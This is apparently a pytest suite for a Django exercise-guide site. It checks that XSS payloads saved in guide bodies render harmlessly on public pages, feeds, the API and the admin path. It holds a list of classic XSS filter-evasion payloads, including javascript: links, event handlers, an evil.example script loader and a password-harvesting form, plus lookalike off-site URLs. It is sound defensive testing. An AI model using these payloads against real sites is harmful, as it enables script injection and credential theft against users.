"""Known XSS payloads, saved as an editor would and read as the public does: nothing runs.

The payloads are the classics of OWASP's XSS filter evasion cheat sheet, in raw HTML and in
Markdown. Each is saved in a guide body (and the summary), then read on the public detail
page, a browse card, the API and the feeds. The pages are parsed, not searched as text.
"""

from __future__ import annotations

import json
import re
from html import unescape
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from django.test import Client
from django.urls import reverse

from resources.models import Organisation, Resource, Status
from resources.text import render_markdown
from tests.factories import ResourceFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example/></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="jAvAsCrIpT:alert(1)">b</a>',
    '<a href=" javascript:alert(1)">c</a>',
    '<a href="jav&#x09;ascript:alert(1)">d</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>',
    '<a href="java\nscript:alert(1)">f</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">g</a>',
    '<a href="vbscript:msgbox(1)">h</a>',
    '<a href="https://ok.example/" onmouseover="alert(1)">i</a>',
    '<a href="https://ok.example/" style="position:fixed;inset:0">j</a>',
    "[k](javascript:alert(1))",
    "[l](JaVaScRiPt:alert(1))",
    "[m](javascript&#58;alert(1))",
    "[n](data:text/html,<script>alert(1)</script>)",
    "[o](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![p](https://evil.example/tracker.png)",
    '![q](x "onerror=alert(1)")',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">r</div>',
    '<form action="https://evil.example/"><input name="password"><button>s</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<script>alert(1)--><script>alert(1)</script>",
]
SAFE_SCHEMES = {"https", "mailto"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster"}


FOREIGN_TAGS = {"iframe", "object", "embed", "form", "base", "meta", "svg", "math", "style", "img"}


class Markup(HTMLParser):
    """Everything that could run code or load something; with `body_only`, any foreign tag.

    A whole page has the site's own forms and SVG icons, so foreign tags are only counted in
    rendered guide bodies.
    """

    def __init__(self, *, body_only: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.body_only = body_only
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag == "script":
            # The site's own: JSON-LD data and scripts from /static/; nothing else.
            own = attributes.get("type") == "application/ld+json" or (
                attributes.get("src") or ""
            ).startswith("/static/")
            if not own:
                self.problems.append(f"<script {attrs}>")
        if self.body_only and tag in FOREIGN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and value:
                cleaned = re.sub(r"[\x00-\x20]", "", unquote(value))
                scheme = SCHEME.match(cleaned)
                if scheme and scheme.group(1).lower() not in SAFE_SCHEMES | {"http"}:
                    self.problems.append(f"<{tag} {name}={value!r}>")


def problems(html: str, *, body_only: bool = False) -> list[str]:
    parser = Markup(body_only=body_only)
    parser.feed(html)
    return parser.problems


def guide_body(page: str) -> str:
    match = re.search(r'<section class="guide-body".*?</section>', page, re.DOTALL)
    assert match, "the guide body is not on the page"
    return match.group(0)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_renders_to_harmless_markup(payload: str):
    html = render_markdown(f"Breathe in slowly.\n\n{payload}\n\nBreathe out.")

    assert problems(html, body_only=True) == []
    assert "Breathe in slowly." in html  # the text around it stays
    for link in re.findall(r"<a [^>]*>", html):
        assert 'rel="noopener noreferrer"' in link


def test_allowed_markup_still_works():
    html = render_markdown(
        "# Warm up\n\nRoll your **shoulders**, *slowly*.\n\n- one\n- two\n\n1. first\n\n"
        "> Stop if it hurts.\n\n`count to five`\n\n"
        "[Charity](https://charity.example.org/) or [write to us](mailto:hub@example.org) "
        "or [our safety page](/en/safety/)."
    )
    for tag in ("<h2", "<strong>", "<em>", "<ul>", "<ol>", "<li>", "<blockquote>", "<code>"):
        assert tag in html
    assert '<a href="https://charity.example.org/" rel="noopener noreferrer">Charity</a>' in html
    assert 'href="mailto:hub@example.org"' in html
    assert 'href="/en/safety/"' in html


def test_plain_http_links_lose_their_address():
    html = render_markdown("[old site](http://charity.example.org/)")
    assert "http://" not in html
    assert "old site" in html


@pytest.fixture
def hostile() -> Resource:
    """A published guide whose body and summary hold every payload."""
    return ResourceFactory(
        slug="hostile",
        title="Chair exercises",
        summary=" ".join(PAYLOADS[:12])[:400],
        body="Breathe in slowly.\n\n" + "\n\n".join(PAYLOADS),
    )


def test_public_detail_page_has_no_script_capable_markup(client: Client, hostile: Resource):
    response = client.get(hostile.get_absolute_url())

    assert response.status_code == 200
    page = response.content.decode()
    assert problems(page) == []
    body = guide_body(page)
    assert "Breathe in slowly." in body
    assert problems(body, body_only=True) == []
    assert "alert(1)</script>" not in page


def test_browse_card_and_search_escape_the_summary(client: Client, hostile: Resource):
    page = client.get(reverse("resources:list"), {"q": "Chair"}).content.decode()
    assert "Chair exercises" in page
    assert problems(page) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown as text, not run


@pytest.mark.parametrize("feed", ["/en/feeds/rss/", "/en/feeds/atom/"])
def test_feeds_carry_no_markup_from_the_payloads(client: Client, hostile: Resource, feed: str):
    response = client.get(feed)
    assert response.status_code == 200
    # Feed readers render the (XML-escaped) description as HTML: unescape it once and check.
    description = unescape(response.content.decode())
    start = description.index("Chair exercises")
    assert problems(description[start:]) == []


def test_api_returns_no_rendered_body_only_escaped_text(client: Client, hostile: Resource):
    response = client.get(f"/api/v1/resources/{hostile.slug}/")
    assert response.status_code == 200
    data = response.json()
    assert "body" not in data  # the API gives no HTML a client could inject
    assert data["summary"] == hostile.summary  # JSON data, for the client to escape
    assert "application/json" in response["Content-Type"]
    json.dumps(data)


def test_payloads_saved_through_the_admin_form_are_harmless_in_public(
    admin_client: Client, client: Client
):
    organisation = Organisation.objects.create(name="Move More Trust", slug="move-more-trust")
    response = admin_client.post(
        reverse("admin:resources_resource_add"),
        {
            "kind": "guide",
            "title": "Chair exercises",
            "slug": "from-the-admin",
            "summary": "Six movements from a chair.",
            "organisation": organisation.pk,
            "language": "en",
            "body": "Breathe in slowly.\n\n" + "\n\n".join(PAYLOADS),
            "bone_metastasis_safety": "not-reviewed",
            "status": "draft",
            "_save": "Save",
        },
    )
    assert response.status_code == 302, response.context["adminform"].form.errors
    saved = Resource.objects.get(slug="from-the-admin")
    assert saved.body.endswith(PAYLOADS[-1])  # stored as written: sanitised on output
    Resource.objects.filter(pk=saved.pk).update(
        status=Status.PUBLISHED,
        bone_metastasis_safety="suitable",
        reviewed_on="2026-01-01",
        published_at="2026-01-01T00:00:00Z",
    )

    page = client.get(saved.get_absolute_url()).content.decode()

    assert problems(page) == []
    assert problems(guide_body(page), body_only=True) == []
    assert "Breathe in slowly." in guide_body(page)


# Addresses that look like paths on this site, but that a browser sends to another host
# (issue 16, defect 9). Tabs and line breaks are dropped by the browser's URL parser, a
# backslash is a slash to it, and a server or redirect further on may decode %5C.
OFF_SITE_LOOKALIKES = [
    "//evil.example/y",
    "/\\evil.example/x",
    "\\\\evil.example/x",
    "\\/evil.example/x",
    "/%5Cevil.example/x",
    "/%5cevil.example/x",
    "%2F%2Fevil.example/x",
    "/%255Cevil.example/x",
    # Markdown turns a typed tab into spaces (harmless); as a character reference it stays one.
    "/&#9;/evil.example/x",
    "/&#x09;\\evil.example/x",
    "/\n/evil.example/x",
    "/\r\\evil.example/x",
    " //evil.example/x",
    "https:evil.example/x",
    "HTTPS:evil.example/x",
    "https:///evil.example/x",
]


@pytest.mark.parametrize("address", OFF_SITE_LOOKALIKES)
@pytest.mark.parametrize("markup", ["markdown", "html"])
def test_links_that_leave_the_site_through_a_path_lose_their_address(address, markup):
    if markup == "markdown":
        # Markdown reads a backslash as an escape: doubled, the link holds it as written.
        source = "[our safety page](<{}>)".format(address.replace("\\", "\\\\"))
    else:
        source = f'<a href="{address}">our safety page</a>'
    html = render_markdown(source)
    assert "our safety page" in html
    assert "href" not in html, html


@pytest.mark.parametrize(
    "address",
    ["/en/safety/", "/en/resources/?level=gentle", "#warm-up", "safety/", "https://ok.example/"],
)
def test_links_on_this_site_and_to_https_sites_keep_their_address(address):
    html = render_markdown(f"[here]({address})")
    assert f'href="{address.replace("&", "&amp;")}"' in html
